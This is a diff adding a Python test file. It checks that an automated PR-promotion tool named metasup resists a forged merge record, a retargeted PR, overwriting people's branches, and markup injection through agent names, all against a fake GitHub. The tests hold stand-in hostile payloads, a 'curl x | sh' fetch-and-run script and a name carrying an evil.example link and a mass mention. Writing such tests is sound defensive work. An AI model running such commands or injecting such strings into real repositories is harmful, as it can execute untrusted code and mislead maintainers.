@@ -1,0 +1,139 @@
+"""Rolling mode merges and moves only its own work, whatever its records say (SPEC §5 "Acting
+safely"): a forged record, a retargeted PR, a person's branch, a push during the run, and names
+from artifacts in the comments it writes. Each case was found by an adversarial audit that made
+the previous code misbehave; end to end through the action against the fake GitHub."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+from fakegithub import FakeGitHub, RequestInfo
+from test_action_rolling import PROMOTE_BRANCH, REPO, STATE, Rolling, _rename_agents
+from test_action_rolling_safety import HELD_TEXT, rolling, summary
+
+from metasup.examples import EXAMPLES_DIR
+
+__all__ = ["rolling"]  # the fixture, shared with test_action_rolling_safety
+
+
+def test_a_forged_record_never_gets_a_foreign_commit_merged(rolling: Rolling) -> None:
+    """mallory points metasup's branch at her commit (the promotion plus a script, straight on main)
+    and writes its sha into ``pulls.json``: metasup merges its own change, never her commit."""
+    fake = rolling.fake
+    assert rolling() == 0
+    [pull] = rolling.promote_pulls()
+    promoted = fake.read_file(REPO, "agents.yaml", ref=PROMOTE_BRANCH)
+    evil = fake.commit_files(
+        REPO,
+        "mallory-tmp",
+        {"agents.yaml": promoted, "evil.sh": "curl x | sh\n"},
+        user="mallory",
+        create_from="main",
+    )
+    fake.client().get_repo(REPO).get_git_ref(f"heads/{PROMOTE_BRANCH}").edit(evil, force=True)
+    heads = json.loads(fake.read_file(REPO, "pulls.json", ref=STATE))
+    heads[PROMOTE_BRANCH].append(evil)
+    fake.commit_files(REPO, STATE, {"pulls.json": json.dumps(heads, indent=2) + "\n"}, user="mallory")
+    fake.advance(hours=25)
+
+    assert rolling() == 0
+
+    assert fake.issue(REPO, pull.number).pull.merged
+    assert "evil.sh" not in fake.files_at(REPO, "main")
+    assert fake.read_file(REPO, "agents.yaml", ref="main") == promoted  # the promotion, and only it
+    assert f"its head {evil[:12]} is not the change metasup makes" in summary(rolling)
+
+
+def test_a_pr_someone_retargeted_is_never_merged_elsewhere(rolling: Rolling) -> None:
+    fake = rolling.fake
+    fake.create_branch(REPO, "release")
+    fake.commit_files(REPO, "main", {"UNRELEASED.md": "not for release yet\n"})
+    assert rolling() == 0
+    [pull] = rolling.promote_pulls()
+    fake.client().get_repo(REPO).get_pull(pull.number).edit(base="release")
+    fake.advance(hours=25)
+
+    assert rolling() == 0
+
+    assert not fake.issue(REPO, pull.number).pull.merged
+    assert "UNRELEASED.md" not in fake.files_at(REPO, "release")
+    assert "it now targets release, not main" in summary(rolling).replace("\\", "")
+
+
+def test_a_persons_branch_without_a_pr_is_left_as_it_is(rolling: Rolling) -> None:
+    fake = rolling.fake
+    bob = fake.commit_files(
+        REPO,
+        PROMOTE_BRANCH,
+        {"agents.yaml": "bob's draft\n", "WORK.md": "two days of work\n"},
+        user="bob",
+        create_from="main",
+    )
+
+    assert rolling() == 0
+
+    assert fake.ref_sha(REPO, PROMOTE_BRANCH) == bob
+    assert rolling.promote_pulls() == []
+    assert f"holds commit {bob[:12]}, which metasup did not write" in summary(rolling).replace("\\", "")
+
+
+def test_a_push_during_the_run_is_never_overwritten(rolling: Rolling) -> None:
+    """main moved, so metasup re-cuts its branch before merging; bob pushes to the PR after the run
+    listed it, just before metasup writes its commit: his push stays and the PR is held."""
+    fake = rolling.fake
+    assert rolling() == 0
+    [pull] = rolling.promote_pulls()
+    fake.commit_files(REPO, "main", {"NOTES.md": "unrelated change on main\n"})
+    fake.advance(hours=25)
+    pushed: list[str] = []
+
+    def bob_pushes(fake: FakeGitHub, info: RequestInfo) -> None:
+        if not pushed:
+            pushed.append(fake.push_to_pull(REPO, pull.number, {"FIX.md": "bob's fix\n"}, user="bob"))
+
+    fake.before_request(bob_pushes, method="POST", path=f"/repos/{REPO}/git/commits")
+
+    assert rolling() == 0
+
+    [bobs] = pushed
+    assert fake.ref_sha(REPO, PROMOTE_BRANCH) == bobs
+    assert not fake.issue(REPO, pull.number).pull.merged
+    assert any(HELD_TEXT in c.body for c in fake.comments(REPO, pull.number))
+
+
+def test_the_withdrawal_comment_cannot_mention_or_format(
+    fake_github: FakeGitHub, tmp_path: Path, github_event_path: Callable[..., Path]
+) -> None:
+    """An agent name from the artifacts, in the comment metasup leaves when it withdraws its PR."""
+    name = "momo <b>beta</b> @octo-org/leads [x](https://evil.example)"
+    workspace = tmp_path / "workspace"
+    shutil.copytree(EXAMPLES_DIR, workspace, ignore=shutil.ignore_patterns("*.py", "__pycache__", "*.md"))
+    _rename_agents(workspace, {"momo-beta": name})
+    fake_github.create_repo(
+        REPO,
+        {p.relative_to(workspace).as_posix(): p.read_text() for p in workspace.rglob("*") if p.is_file()},
+    )
+    rolling = Rolling(fake_github, workspace, github_event_path("workflow_dispatch", repo=REPO))
+    assert rolling() == 0, rolling.stdout
+    [pull] = [p for p in fake_github.pulls(REPO) if p.title.startswith("[AUTO-PROMOTE]")]
+    telemetry = workspace / "telemetry" / "events.jsonl"
+    violation = {
+        "type": "safety_violation",
+        "ts": "2026-10-29T15:00:00Z",
+        "agent": name,
+        "rule": "max_position",
+    }
+    telemetry.write_text(telemetry.read_text() + json.dumps(violation) + "\n")
+    fake_github.advance(hours=6)
+
+    assert rolling() == 0, rolling.stdout
+
+    assert fake_github.issue(REPO, pull.number).state == "closed"
+    comment = fake_github.comments(REPO, pull.number)[-1].body
+    assert comment.startswith("metasup closed this PR: the promotion gates of **momo")
+    assert "@\u200docto-org/leads" in comment
+    for live in ("@octo-org", "<b>", "](https://"):
+        assert live not in comment
